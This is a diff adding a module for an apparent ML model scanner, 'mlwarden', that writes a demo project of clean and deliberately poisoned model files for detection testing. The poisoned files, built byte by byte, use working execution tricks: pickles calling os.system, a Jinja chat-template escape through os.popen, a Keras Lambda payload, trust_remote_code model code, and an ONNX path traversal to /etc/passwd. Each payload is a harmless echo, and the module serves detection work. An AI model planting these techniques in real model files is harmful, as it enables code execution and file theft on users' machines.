@@ -1,0 +1,232 @@
+"""Build the demo ML project that ``mlwarden demo`` scans: a few clean models and a few poisoned ones.
+
+Every poisoned file carries a HARMLESS payload (``echo mlwarden-demo-payload``) and is written byte by byte
+here, so the demo needs no ML framework. Nothing in this module loads, unpickles or runs any of the files.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import pickle
+import struct
+import zipfile
+import zlib
+from collections import OrderedDict
+from pathlib import Path
+
+PAYLOAD = "echo mlwarden-demo-payload"
+
+
+# --- pickle opcodes, written by hand so that no callable has to exist to be referenced -------------------
+
+def _global(module: str, name: str) -> bytes:
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def _text(value: str) -> bytes:
+    raw = value.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def _int(value: int) -> bytes:
+    return b"J" + struct.pack("<i", value)
+
+
+def _tuple(*items: bytes) -> bytes:
+    return b"(" + b"".join(items) + b"t"
+
+
+def _torch_tensor(key: str, shape: tuple[int, ...]) -> bytes:
+    """``torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())`` as torch writes it."""
+    numel = 1
+    for dim in shape:
+        numel *= dim
+    stride = []
+    step = 1
+    for dim in reversed(shape):  # contiguous row-major strides
+        stride.insert(0, step)
+        step *= dim
+    storage = _tuple(_text("storage"), _global("torch", "FloatStorage"), _text(key), _text("cpu"),
+                     _int(numel)) + b"Q"
+    return (_global("torch._utils", "_rebuild_tensor_v2")
+            + _tuple(storage, _int(0), _tuple(*(_int(d) for d in shape)), _tuple(*(_int(s) for s in stride)),
+                     b"\x89", _global("collections", "OrderedDict") + b")R")
+            + b"R")
+
+
+def torch_state_dict_pickle(tensors: dict[str, tuple[int, ...]]) -> bytes:
+    body = b"".join(_text(name) + _torch_tensor(str(i), shape) for i, (name, shape) in enumerate(tensors.items()))
+    return b"\x80\x02" + _global("collections", "OrderedDict") + b")R(" + body + b"u."
+
+
+def stack_global_payload(command: str = PAYLOAD) -> bytes:
+    """Protocol 4: module and name pushed as strings, memoized, fetched back, then STACK_GLOBAL + REDUCE."""
+    return (b"\x80\x04\x95" + struct.pack("<Q", 0) + b"\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93"
+            + b"\x8c" + bytes([len(command)]) + command.encode() + b"\x85R.")
+
+
+def protocol0_payload(command: str = PAYLOAD) -> bytes:
+    return b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."
+
+
+def torch_zip(pickles: dict[str, bytes], tensors: dict[str, tuple[int, ...]]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("archive/data.pkl", torch_state_dict_pickle(tensors))
+        for name, data in pickles.items():
+            archive.writestr(f"archive/{name}", data)
+        archive.writestr("archive/byteorder", "little")
+        for i, shape in enumerate(tensors.values()):
+            numel = 1
+            for dim in shape:
+                numel *= dim
+            archive.writestr(f"archive/data/{i}", b"\x00" * 4 * numel)
+        archive.writestr("archive/version", "3\n")
+    return out.getvalue()
+
+
+def safetensors_file(tensors: dict[str, tuple[int, ...]]) -> bytes:
+    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
+    offset = 0
+    for name, shape in tensors.items():
+        size = 4
+        for dim in shape:
+            size *= dim
+        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [offset, offset + size]}
+        offset += size
+    raw = json.dumps(header, separators=(",", ":")).encode()
+    raw += b" " * (-len(raw) % 8)
+    return struct.pack("<Q", len(raw)) + raw + b"\x00" * offset
+
+
+def npy_file(descr: str, shape: tuple[int, ...], payload: bytes) -> bytes:
+    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
+    pad = -(10 + len(header) + 1) % 64
+    header += b" " * pad + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
+
+
+def _gguf_string(value: str) -> bytes:
+    raw = value.encode()
+    return struct.pack("<Q", len(raw)) + raw
+
+
+def gguf_file(chat_template: str) -> bytes:
+    kvs = [("general.architecture", "llama"), ("general.name", "tiny-demo"),
+           ("tokenizer.chat_template", chat_template)]
+    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kvs))
+    for key, value in kvs:
+        out += _gguf_string(key) + struct.pack("<I", 8) + _gguf_string(value)
+    # one F32 tensor of shape [4] at offset 0 of the (32-byte aligned) data section
+    out += _gguf_string("token_embd.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4)
+    out += struct.pack("<I", 0) + struct.pack("<Q", 0)
+    out += b"\x00" * (-len(out) % 32)
+    return out + b"\x00" * 16
+
+
+def _varint(value: int) -> bytes:
+    out = bytearray()
+    while True:
+        byte = value & 0x7F
+        value >>= 7
+        out.append(byte | (0x80 if value else 0))
+        if not value:
+            return bytes(out)
+
+
+def _field(number: int, payload: bytes | int) -> bytes:
+    if isinstance(payload, int):
+        return _varint(number << 3) + _varint(payload)
+    return _varint(number << 3 | 2) + _varint(len(payload)) + payload
+
+
+def onnx_external_data_model(location: str) -> bytes:
+    """ModelProto with one initializer whose external data lives at ``location`` (onnx.proto field numbers)."""
+    entry = _field(1, b"location") + _field(2, location.encode())
+    tensor = _field(1, 4) + _field(2, 1) + _field(8, b"weight") + _field(13, entry) + _field(14, 1)
+    graph = _field(2, b"demo-graph") + _field(5, tensor)
+    opset = _field(1, b"") + _field(2, 17)
+    return _field(1, 9) + _field(2, b"mlwarden-demo") + _field(7, graph) + _field(8, opset)
+
+
+def keras_archive(with_lambda: bool) -> bytes:
+    layers: list[dict[str, object]] = [
+        {"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "input", "batch_shape": [None, 4]}},
+        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2}},
+    ]
+    if with_lambda:
+        code = base64.b64encode(b"\xe3" + b"\x00" * 16 + b"os\x00system\x00" + PAYLOAD.encode()).decode()
+        layers.append({"module": "keras.layers", "class_name": "Lambda",
+                       "config": {"name": "preprocess", "function": {"class_name": "__lambda__",
+                                                                     "config": {"code": code, "defaults": None,
+                                                                                "closure": None}}}})
+    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "sentiment", "layers": layers}}
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-11-01"}))
+        archive.writestr("config.json", json.dumps(config))
+    return out.getvalue()
+
+
+BENIGN_TEMPLATE = ("{% for message in messages %}<|im_start|>{{ message['role'] }}\n{{ message['content'] | trim }}"
+                   "<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}")
+HOSTILE_TEMPLATE = ("{% for message in messages %}{{ message['content'] }}{% endfor %}"
+                    "{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}")
+
+REMOTE_CODE = f'''"""Custom model code that trust_remote_code=True would run."""
+import os
+
+class DemoModel:
+    def __init__(self, config):
+        os.system("{PAYLOAD}")
+'''
+
+
+def demo_files() -> dict[str, bytes]:
+    """Relative path -> content of every file of the demo project."""
+    classifier = {"classes": ["cat", "dog"], "weights": [[0.25, -0.5], [0.75, 0.125]],
+                  "meta": OrderedDict(trained="2026-11-01", framework="numpy")}
+    tensors = {"layer1.weight": (4, 4), "layer1.bias": (4,)}
+    return {
+        "README.md": b"# mlwarden demo project\n\nmodels/clean holds ordinary models; models/poisoned holds "
+                     b"models with harmless payloads (they would run `echo mlwarden-demo-payload`).\n",
+        "models/clean/classifier.pkl": pickle.dumps(classifier, protocol=4),
+        "models/clean/resnet-tiny/config.json": json.dumps(
+            {"architectures": ["ResNetForImageClassification"], "model_type": "resnet"}).encode(),
+        "models/clean/resnet-tiny/pytorch_model.bin": torch_zip({}, tensors),
+        "models/clean/embeddings.safetensors": safetensors_file({"embeddings.weight": (8, 4)}),
+        "models/clean/features.npy": npy_file("<f4", (2, 2), b"\x00" * 16),
+        "models/clean/tiny-chat.gguf": gguf_file(BENIGN_TEMPLATE),
+        "models/clean/sentiment.keras": keras_archive(with_lambda=False),
+        "models/poisoned/classifier.pkl": protocol0_payload(),
+        "models/poisoned/checkpoint.pt": torch_zip({"extra_state.pkl": stack_global_payload()}, tensors),
+        "models/poisoned/weights.safetensors": stack_global_payload(),
+        "models/poisoned/vectors.npy": npy_file("|O", (1,), protocol0_payload()),
+        "models/poisoned/pipeline.joblib": zlib.compress(protocol0_payload()),
+        "models/poisoned/sentiment.keras": keras_archive(with_lambda=True),
+        "models/poisoned/detector/model.onnx": onnx_external_data_model("../../../../etc/passwd"),
+        "models/poisoned/chat-model.gguf": gguf_file(HOSTILE_TEMPLATE),
+        "models/poisoned/remote-code/config.json": json.dumps(
+            {"architectures": ["DemoModel"], "model_type": "demo",
+             "auto_map": {"AutoModel": "modeling_demo.DemoModel"}}).encode(),
+        "models/poisoned/remote-code/modeling_demo.py": REMOTE_CODE.encode(),
+    }
+
+
+def write_demo_project(target: Path) -> list[Path]:
+    """Write the demo project under ``target`` (created if missing); refuses to overwrite existing files."""
+    from mlwarden.core.errors import InputError
+
+    files = demo_files()
+    clashes = [rel for rel in files if (target / rel).exists()]
+    if clashes:
+        raise InputError(f"{target / clashes[0]} already exists; give 'mlwarden demo' an empty or new folder")
+    written = []
+    for rel, data in files.items():
+        path = target / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+        written.append(path)
+    return written
